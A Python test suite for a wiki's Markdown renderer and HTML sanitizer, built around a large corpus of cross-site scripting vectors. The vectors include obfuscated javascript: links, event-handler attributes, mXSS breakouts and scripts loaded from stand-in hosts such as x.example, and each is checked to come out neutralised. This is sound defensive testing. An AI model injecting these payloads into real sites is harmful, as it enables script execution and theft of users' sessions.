"""XSS corpus: every vector goes through the renderer (and raw HTML through the sanitizer).

The output is audited with the standard library's HTML parser, independently of
the sanitizer's own allowlist: the expected tags and attributes are spelled out
here again on purpose, so widening the sanitizer shows up as a failing test.
Every sanitizer bug found later becomes one more vector in these lists.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser
from urllib.parse import quote

import pytest

from wiki.rendering import LinkTarget, render_markdown
from wiki.sanitize import clean_html

SAFE_TAGS = frozenset(
    {
        "p", "h1", "h2", "h3", "h4", "h5", "h6", "a", "img", "ul", "ol", "li", "input",
        "table", "thead", "tbody", "tr", "th", "td", "code", "pre", "blockquote", "hr",
        "br", "em", "strong", "del", "s", "sup", "sub", "span", "label",
    }
)  # fmt: skip
SAFE_ATTRIBUTES = frozenset(
    {"href", "src", "alt", "title", "class", "id", "type", "checked", "disabled", "start", "rel"}
)
URL_ATTRIBUTES = frozenset({"href", "src"})
SAFE_SCHEMES = {"href": {"http", "https", "mailto"}, "src": {"http", "https"}}
# What browsers ignore or strip inside a URL before reading its scheme.
_URL_NOISE = re.compile(r"[\x00-\x20\x7f-\xa0\s\u200b-\u200f\u2028-\u202e\u2060\ufeff]+")
_SCHEME = re.compile(r"([a-z][a-z0-9+.\-]*):")


class Auditor(HTMLParser):
    """Lists everything in a piece of HTML that could run script or load active content."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in SAFE_TAGS:
            self.problems.append(f"tag <{tag}>")
        for name, value in attrs:
            self._check_attribute(tag, name, value or "")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_comment(self, data: str) -> None:
        self.problems.append(f"comment {data!r}")

    def handle_decl(self, decl: str) -> None:
        self.problems.append(f"declaration {decl!r}")

    def unknown_decl(self, data: str) -> None:
        self.problems.append(f"declaration {data!r}")

    def handle_pi(self, data: str) -> None:
        self.problems.append(f"processing instruction {data!r}")

    def _check_attribute(self, tag: str, name: str, value: str) -> None:
        if name.startswith("on") or name not in SAFE_ATTRIBUTES:
            self.problems.append(f"attribute {name}= on <{tag}>")
        if name in URL_ATTRIBUTES:
            scheme = url_scheme(value)
            if scheme is not None and scheme not in SAFE_SCHEMES[name]:
                self.problems.append(f"{name}={value!r} on <{tag}>")
        if name == "type" and value != "checkbox":
            self.problems.append(f"input type {value!r}")


def url_scheme(value: str) -> str | None:
    """The scheme a browser would see in an (already entity-decoded) URL, or None if relative."""
    match = _SCHEME.match(_URL_NOISE.sub("", value).lower())
    return match.group(1) if match else None


def audit(html: str) -> list[str]:
    auditor = Auditor()
    auditor.feed(html)
    auditor.close()
    if re.search(r"<\s*/?\s*(script|style|iframe|object|embed|svg|math)", html, re.IGNORECASE):
        auditor.problems.append("dangerous tag text in markup")
    return auditor.problems


def title_link(title: str) -> LinkTarget:
    exists = title.startswith("A")
    url = f"/s/demo/{quote(title)}" if exists else f"/s/demo/_new?title={quote(title)}"
    return LinkTarget(url=url, exists=exists)


LONG = "<script>alert(1)</script> [x](javascript:alert(1)) <img src=x onerror=alert(1)> "

MARKDOWN_VECTORS: dict[str, str] = {
    "raw-script": "<script>alert(1)</script>",
    "raw-script-upper-src": "<SCRIPT SRC=http://x.example/xss.js></SCRIPT>",
    "script-inline-in-paragraph": "Bonjour <script>alert(1)</script> à tous",
    "script-split": "<scr<script>ipt>alert(1)</script>",
    "script-nested-brackets": "<<script>script>alert(1)<</script>/script>",
    "script-escaped": "\\<script>alert(1)\\</script>",
    "img-onerror": "<img src=x onerror=alert(1)>",
    "img-onerror-no-quotes-slash": "<img/src=x/onerror=alert(1)>",
    "svg-onload": "<svg onload=alert(1)>",
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "body-onload": "<body onload=alert(1)>",
    "details-ontoggle": "<details open ontoggle=alert(1)>",
    "input-onfocus": "<input autofocus onfocus=alert(1)>",
    "video-source-onerror": "<video><source onerror=alert(1)></video>",
    "iframe-javascript": '<iframe src="javascript:alert(1)"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object-data": '<object data="javascript:alert(1)"></object>',
    "embed-src": '<embed src="javascript:alert(1)">',
    "form-action": '<form action="javascript:alert(1)"><button>ok</button></form>',
    "button-formaction": '<button formaction="javascript:alert(1)">x</button>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "base-href": '<base href="javascript:alert(1)//">',
    "link-stylesheet": '<link rel="stylesheet" href="http://x.example/x.css">',
    "style-tag": "<style>body{background:url(javascript:alert(1))}</style>",
    "style-attribute": '<p style="background:url(javascript:alert(1))">x</p>',
    "raw-a-href": '<a href="javascript:alert(1)">x</a>',
    "raw-a-href-entity": '<a href="&#x6A;avascript:alert(1)">x</a>',
    "html-comment": "<!-- <script>alert(1)</script> -->",
    "conditional-comment": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "template": "<template><script>alert(1)</script></template>",
    "noscript-breakout": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "mxss-math-style": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "md-link-javascript": "[x](javascript:alert(1))",
    "md-link-upper": "[x](JAVASCRIPT:alert(1))",
    "md-link-mixed-case": "[x](JaVaScRiPt:alert(1))",
    "md-link-leading-space": "[x](  javascript:alert(1))",
    "md-link-tab": "[x](java\tscript:alert(1))",
    "md-link-angle": "[x](<javascript:alert(1)>)",
    "md-link-parens": "[x](javascript:alert((1)))",
    "md-link-backslash": "[x](\\javascript:alert(1))",
    "md-link-decimal-entity": "[x](&#106;avascript:alert(1))",
    "md-link-hex-entity": "[x](&#x6A;avascript:alert(1))",
    "md-link-colon-entity": "[x](javascript&colon;alert(1))",
    "md-link-tab-entity": "[x](java&#9;script:alert(1))",
    "md-link-named-tab-entity": "[x](java&Tab;script:alert(1))",
    "md-link-newline-entity": "[x](java&#10;script:alert(1))",
    "md-link-percent": "[x](java%09script:alert(1))",
    "md-link-data-html": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "md-link-vbscript": "[x](vbscript:msgbox(1))",
    "md-link-file": "[x](file:///etc/passwd)",
    "md-link-livescript": "[x](livescript:alert(1))",
    "reference-link": "[x][r]\n\n[r]: javascript:alert(1)",
    "reference-link-entity": "[x][r]\n\n[r]: &#x6A;avascript:alert(1) 'titre'",
    "reference-image": "![x][r]\n\n[r]: javascript:alert(1)",
    "autolink-javascript": "<javascript:alert(1)>",
    "autolink-mixed-case": "<JaVaScRiPt:alert(1)>",
    "autolink-vbscript": "<vbscript:msgbox(1)>",
    "autolink-data": "<data:text/html,<script>alert(1)</script>>",
    "image-javascript": "![x](javascript:alert(1))",
    "image-data-svg": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "image-data-png": "![x](data:image/png;base64,iVBORw0KGgo=)",
    "image-title-breakout": '![x](http://e.org/i.png "\\" onerror=\\"alert(1)")',
    "image-alt-breakout": '![" onerror="alert(1)](http://e.org/i.png)',
    "link-title-breakout": '[a](http://x.example "\\" onclick=\\"alert(1)")',
    "link-title-single-quote": "[a](http://x.example 'a\\' onclick=alert(1)')",
    "link-text-html": "[<img src=x onerror=alert(1)>](http://e.org)",
    "wikilink-script": "[[<script>alert(1)</script>]]",
    "wikilink-attribute-breakout": '[[x" onmouseover="alert(1)]]',
    "wikilink-single-quote-breakout": "[[A' onmouseover='alert(1)]]",
    "wikilink-label-breakout": '[[Accueil|x" onmouseover="alert(1)]]',
    "wikilink-label-html": "[[Accueil|<img src=x onerror=alert(1)>]]",
    "wikilink-javascript-title": "[[javascript:alert(1)]]",
    "wikilink-label-link": "[[Accueil|[x](javascript:alert(1))]]",
    "wikilink-in-link-text": "[a [[b]]](javascript:alert(1))",
    "wikilink-in-image-alt": "![[[x]]](javascript:alert(1))",
    "table-cells": (
        "| <script>alert(1)</script> | [x](javascript:alert(1)) |\n|:-:|--:|\n"
        "| <img src=x onerror=alert(1)> | ![y](javascript:alert(1)) |"
    ),
    "nested-quotes": "> > > <script>alert(1)</script>\n> > [x](javascript:alert(1))",
    "nested-list": "- <img src=x onerror=alert(1)>\n  - [x](javascript:alert(1))",
    "fence-info-breakout": '```js" onclick="alert(1)\ncode\n```',
    "fence-closing-code": "```\n</code></pre><script>alert(1)</script>\n```",
    "code-span-html": "`<script>alert(1)</script>`",
    "heading-html": "# <img src=x onerror=alert(1)>",
    "heading-id-breakout": '# x" onclick="alert(1)',
    "setext-heading-script": "<script>alert(1)</script>\n===",
    "strikethrough-script": "~~<script>alert(1)</script>~~",
    "task-list-input": '- [ ] <input type="text" onfocus=alert(1) autofocus>',
    "task-list-checkbox-onclick": "- [x] <input type=checkbox onclick=alert(1)>",
    "entities-in-text": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "double-encoded": "&amp;lt;script&amp;gt;alert(1)",
    "homoglyph-greek-yot": "[x](ϳavascript:alert(1))",
    "homoglyph-cyrillic-a": "[x](jаvascript:alert(1))",
    "homoglyph-fullwidth": "[x](ｊａｖａｓｃｒｉｐｔ:alert(1))",
    "zero-width-space": "[x](java\u200bscript:alert(1))",
    "rtl-override": "[x](\u202ejavascript:alert(1))",
    "null-byte-url": "[x](java\x00script:alert(1))",
    "null-byte-tag": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "control-chars": "[x](\x01\x02javascript:alert(1))",
    "protocol-relative": "[x](//evil.example/xss.js)",
    "deep-quotes": "> " * 200 + "<script>alert(1)</script>",
    "deep-emphasis": "*" * 1000 + "<img src=x onerror=alert(1)>" + "*" * 1000,
    "very-long": LONG * 2000,
}

# Raw HTML straight into the sanitizer, as if markdown-it had let it through.
HTML_VECTORS: dict[str, str] = {
    "script": "<script>alert(1)</script>",
    "script-src": "<script src=//x.example/a.js></script>",
    "img-onerror": "<img src=x onerror=alert(1)>",
    "a-javascript": '<a href="javascript:alert(1)">x</a>',
    "a-javascript-mixed-case": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "a-tab-entity": '<a href="java&#x09;script:alert(1)">x</a>',
    "a-decimal-entity-no-semicolon": '<a href="&#0000106avascript:alert(1)">x</a>',
    "a-newline": '<a href="java\nscript:alert(1)">x</a>',
    "a-leading-control": '<a href="\x01 javascript:alert(1)">x</a>',
    "a-data": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "a-vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "a-onmouseover": '<a href="http://e.org" onmouseover="alert(1)">x</a>',
    "img-javascript": '<img src="javascript:alert(1)">',
    "svg-xlink": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "math-href": '<math href="javascript:alert(1)">x</math>',
    "svg-style-breakout": "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": "<object data=javascript:alert(1)></object>",
    "embed": "<embed src=javascript:alert(1)>",
    "form": "<form action=javascript:alert(1)><button>x</button></form>",
    "meta-refresh": '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "base": "<base href=javascript:alert(1)//>",
    "style-attribute": '<p style="x:expression(alert(1))">x</p>',
    "heading-onclick": '<h2 id="x" onclick="alert(1)">x</h2>',
    "checkbox-formaction": "<input type=checkbox onclick=alert(1) formaction=javascript:alert(1)>",
    "td-background": '<table><tr><td background="javascript:alert(1)">x</td></tr></table>',
    "comment-breakout": "<!--><script>alert(1)</script>-->",
    "noscript-breakout": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "mxss-math-style": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
}


@pytest.mark.parametrize("source", MARKDOWN_VECTORS.values(), ids=MARKDOWN_VECTORS.keys())
def test_markdown_vector_is_neutralised(source: str) -> None:
    html = render_markdown(source, title_link).html
    assert audit(html) == []
    # Serialising and re-sanitising must be a fixed point: a difference means the
    # browser could parse the output differently from the sanitizer (mXSS).
    assert clean_html(html) == html


@pytest.mark.parametrize("source", HTML_VECTORS.values(), ids=HTML_VECTORS.keys())
def test_html_vector_is_neutralised(source: str) -> None:
    html = clean_html(source)
    assert audit(html) == []
    assert clean_html(html) == html


@pytest.mark.parametrize(
    "source",
    [
        "<script>alert(1)</script>",
        "<style>body{}</style>",
        "<p><script>var a = '<b>'; alert(1)</script></p>",
        "<template><p>alert(1)</p></template>",
        '<iframe srcdoc="x">alert(1)</iframe>',
        "<svg><script>alert(1)</script></svg>",
    ],
)
def test_script_like_content_does_not_leak_as_text(source: str) -> None:
    cleaned = clean_html(source)
    assert "alert" not in cleaned
    assert "body{}" not in cleaned


def test_hostile_resolver_url_is_dropped() -> None:
    page = render_markdown("[[Accueil]]", lambda _title: LinkTarget("javascript:alert(1)", True))
    assert audit(page.html) == []
    assert "href" not in page.html


def test_markdown_refusal_keeps_text_visible() -> None:
    html = render_markdown("[cliquez](javascript:alert(1))").html
    assert "<a" not in html
    assert "cliquez" in html


@pytest.mark.parametrize("href", ["http://e.org", "https://e.org/a", "//e.org", "/\\e.org"])
def test_links_leaving_the_site_get_rel(href: str) -> None:
    html = clean_html(f'<a href="{href}">x</a>')
    assert 'rel="noopener noreferrer nofollow"' in html


@pytest.mark.parametrize("href", ["/s/demo/page", "#section", "page?x=1", "mailto:a@b.fr"])
def test_links_inside_the_site_get_no_rel(href: str) -> None:
    assert "rel=" not in clean_html(f'<a href="{href}">x</a>')


@pytest.mark.parametrize(
    "bad",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        '<a href="jav&#x09;ascript:alert(1)">x</a>',
        '<a href=" JAVASCRIPT:alert(1)">x</a>',
        '<img src="data:image/png;base64,AA">',
        "<p style=color:red>x</p>",
        "<!-- x -->",
        '<input type="text">',
        "&lt;p&gt;<iframe></iframe>",
    ],
)
def test_auditor_catches_known_bad_html(bad: str) -> None:
    # The oracle must be able to fail, or the corpus above proves nothing.
    assert audit(bad) != []


def test_corpus_size() -> None:
    assert len(MARKDOWN_VECTORS) + len(HTML_VECTORS) >= 60
